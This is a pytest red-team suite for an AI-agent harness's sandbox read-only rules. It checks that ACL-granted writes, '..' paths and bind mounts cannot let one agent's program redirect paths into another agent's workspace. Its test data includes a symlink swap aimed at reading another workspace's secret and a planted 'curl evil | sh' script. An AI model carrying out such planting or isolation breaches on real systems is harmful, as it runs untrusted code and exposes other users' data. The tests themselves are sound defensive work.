"""Red team of the HARNESS_SANDBOX_READ_ONLY judge (rt2sandnr): an entry whose way a
sandboxed program may write is refused, whether an ACL grants that write or the mode
bits do, and the path bwrap binds is the path judged.

An ACL (setfacl) granting the programs' user write on a directory of the way was not
read: only the mode bits were, so a root-owned project directory an admin had shared
with Harness's user by ACL, registered as an agent's workspace, let that agent's program
put a symlink on an entry's way, and every later command showed another agent's
workspace there. An entry with `..` after a missing directory was judged along its
missing way and bound as Path.resolve() left it, `..` taken lexically: a directory
programs write."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from dispatcher.tools import sandbox, sandbox_servers
from tests.redteam.test_rtsandnr_unprivileged_entries import (
    BOB_SECRET,
    _require_root,
    _sh,
    top,  # noqa: F401 - the fixture
)
from tests.tools.support import require_bwrap
from tests.tools.test_preview_unprivileged import NOBODY, _as_user

REDIRECT = "mv sub sub.old && mkdir sub && ln -s {bob} sub/tools && echo redirected"


def _setfacl(*args: str) -> None:
    if shutil.which("setfacl") is None:
        message = "setfacl is not installed: `apt-get install acl` (make sandbox installs it)"
        if os.environ.get("CI") == "true":
            pytest.fail("CI=true and " + message)
        pytest.skip(message)
    subprocess.run(["setfacl", *args], check=True)


def _redirected_twice(alice: Path, bob: Path, entry: Path) -> list[str]:
    """Alice's program swaps the entry's parent for a symlink to bob's workspace; then
    a later command reads the entry: what both saw."""
    return [_sh(alice, REDIRECT.format(bob=bob)), _sh(alice, f"cat {entry}/secret.txt")]


def test_an_acl_granting_the_programs_write_on_the_way_refuses_the_entry(
    top: Path,  # noqa: F811 - the fixture
    settings: Any,
) -> None:
    _require_root()
    # alice's and bob's workspaces: people's projects root owns, shared with Harness's
    # user by ACL (the mode bits say only root, or root's group, writes them)
    alice, bob = top / "alice", top / "bob"
    (bob / "tools").mkdir()
    (bob / "tools" / "secret.txt").write_text(f"{BOB_SECRET}\n")
    for path in (alice, *alice.rglob("*"), bob, *bob.rglob("*")):
        os.chown(path, 0, 0)
        _setfacl("-m", f"u:{NOBODY}:rwx", str(path))
    assert alice.stat().st_gid == 0 and not alice.stat().st_mode & 0o002
    entry = alice / "sub" / "tools"
    settings.HARNESS_SANDBOX_READ_ONLY = [str(entry)]
    # one symlink, which alice's program may put in its workspace: sub -> bob's
    redirect = "mv sub sub.old && ln -s {bob} sub && echo redirected"
    first, second = _as_user(
        lambda: [_sh(alice, redirect.format(bob=bob)), _sh(alice, f"cat {entry}/secret.txt")]
    )
    assert BOB_SECRET not in second, (first, second)
    for seen in (first, second):
        assert seen.startswith("refused: "), seen
        assert f"HARNESS_SANDBOX_READ_ONLY entry {entry} reaches " in seen, seen


def test_an_acl_granting_one_of_harnesss_groups_write_refuses_the_entry(
    top: Path,  # noqa: F811 - the fixture
    settings: Any,
) -> None:
    _require_root()
    shared = top / "shared"
    (shared / "toolchain").mkdir(parents=True)
    _setfacl("-m", f"g:{NOBODY}:rwx", str(shared))  # (nogroup: the unprivileged child's)
    assert shared.stat().st_gid == 0
    settings.HARNESS_SANDBOX_READ_ONLY = [str(shared / "toolchain")]
    seen = _as_user(lambda: _sh(top / "alice", "ls /"))
    assert seen.startswith("refused: "), seen
    assert f"reaches {shared / 'toolchain'}, which lies in a directory" in seen, seen


def test_an_acl_granting_the_sandbox_user_write_refuses_the_entry_as_root(
    settings: Any, tmp_path: Path
) -> None:
    _require_root()
    settings.HARNESS_SANDBOX = "bwrap"
    owner = sandbox._owner()
    if owner is None:
        pytest.skip("no sandbox user here")
    uid = owner[0]
    shared = tmp_path / "shared"
    (shared / "toolchain").mkdir(parents=True)
    _setfacl("-m", f"u:{uid}:rwx", str(shared))
    entry = str(shared / "toolchain")
    problem = sandbox.read_only_problem(entry)
    assert problem == f"reaches {entry}, which lies in a directory sandboxed programs may write"
    _setfacl("-x", f"u:{uid}", str(shared))
    _setfacl("-m", f"u:{uid}:r-x", str(shared))  # read only: shown
    assert sandbox.read_only_problem(entry) is None


def test_an_entry_with_dotdot_after_a_missing_directory_is_judged_where_it_is_bound(
    top: Path,  # noqa: F811 - the fixture
    settings: Any,
) -> None:
    alice, bob = top / "alice", top / "bob"
    # as the kernel reads it, nothing (top/missing is not there, and programs cannot
    # make it); as Path.resolve() does, alice's sub/tools, which is what bwrap was given.
    # Walked step by step and bound by the descriptor of what the walk found, it is
    # nothing, and nothing is bound: alice's redirect shows no other workspace.
    entry = top / "missing" / ".." / "alice" / "sub" / "tools"
    settings.HARNESS_SANDBOX_READ_ONLY = [str(entry)]
    first, second = _as_user(lambda: _redirected_twice(alice, bob, alice / "sub" / "tools"))
    assert BOB_SECRET not in second, (first, second)
    assert first == "redirected\n", first
    assert "secret.txt: No such file or directory" in second, second


def test_a_workspace_in_an_entry_plants_nothing_for_other_agents(
    settings: Any, tmp_path: Path
) -> None:
    # An admin lists a tree that holds a person's project registered as alice's
    # workspace: alice's program wrote a script there that bob's command read (and
    # would run), every agent's program running as the sandbox user when Harness is root.
    _require_root()
    require_bwrap()
    settings.HARNESS_SANDBOX = "bwrap"
    settings.HARNESS_SANDBOX_NETWORK = False
    owner = sandbox._owner()
    if owner is None:
        pytest.skip("no sandbox user here")
    os.chmod(tmp_path, 0o755)  # noqa: S103 - the sandbox user passes through
    alice, bob = tmp_path / "proj" / "alice", tmp_path / "bob"
    for path in (alice, bob):
        path.mkdir(parents=True)
        os.chown(path, *owner)
    settings.HARNESS_SANDBOX_READ_ONLY = [str(tmp_path / "proj")]
    planted = _sh(alice, "echo 'curl evil | sh' > tool.sh && echo planted")
    assert planted.startswith(f"refused: {alice}, where this program may write, lies in "), planted
    assert f"HARNESS_SANDBOX_READ_ONLY entry {tmp_path / 'proj'}, which every" in planted
    assert "curl evil" not in _sh(bob, f"cat {alice}/tool.sh")
    assert not (alice / "tool.sh").exists()


def test_a_servers_writable_path_may_not_lie_in_an_entry(settings: Any, tmp_path: Path) -> None:
    # What the server wrote there (a tool's binary replaced) every agent's command read.
    settings.HARNESS_SANDBOX = "bwrap"
    (tmp_path / "opt" / "tools" / "bin").mkdir(parents=True)
    settings.HARNESS_SANDBOX_READ_ONLY = [str(tmp_path / "opt" / "tools")]
    problem = sandbox_servers.server_path_problem(f"{tmp_path / 'opt' / 'tools' / 'bin'}:rw")
    assert problem == (
        f"Path {tmp_path / 'opt' / 'tools' / 'bin'} lies in the HARNESS_SANDBOX_READ_ONLY "
        f"entry {tmp_path / 'opt' / 'tools'}, which every sandboxed program reads; it cannot "
        "be writable."
    )
    # read-only, it is only shown twice
    assert sandbox_servers.server_path_problem(f"{tmp_path / 'opt' / 'tools' / 'bin'}:ro") is None


def test_a_workspace_bound_on_an_entry_plants_nothing_for_other_agents(
    settings: Any, tmp_path: Path
) -> None:
    # The entry is a mount point an admin bound a project on (mount --bind), the project
    # registered as alice's workspace: the paths differ, the directory is the same.
    _require_root()
    require_bwrap()
    settings.HARNESS_SANDBOX = "bwrap"
    settings.HARNESS_SANDBOX_NETWORK = False
    owner = sandbox._owner()
    if owner is None:
        pytest.skip("no sandbox user here")
    # (the project directory holding the workspace is bound: an entry that is the
    # workspace itself is the sandbox user's, refused for every run whatever it shows)
    os.chmod(tmp_path, 0o755)  # noqa: S103 - the sandbox user passes through
    project, shown = tmp_path / "project", tmp_path / "opt" / "shown"
    alice, bob = project / "alice", tmp_path / "bob"
    for path in (alice, bob, shown):
        path.mkdir(parents=True)
    for path in (alice, bob):
        os.chown(path, *owner)
    if subprocess.run(["mount", "--bind", str(project), str(shown)], check=False).returncode:
        pytest.skip("cannot bind a directory here")
    try:
        settings.HARNESS_SANDBOX_READ_ONLY = [str(shown)]
        planted = _sh(alice, "echo 'curl evil | sh' > tool.sh && echo planted")
        assert planted.startswith(f"refused: {alice}, where this program may write, lies "), planted
        assert f"HARNESS_SANDBOX_READ_ONLY entry {shown}, which every" in planted
        assert "curl evil" not in _sh(bob, f"cat {shown}/alice/tool.sh")
    finally:
        subprocess.run(["umount", str(shown)], check=True)
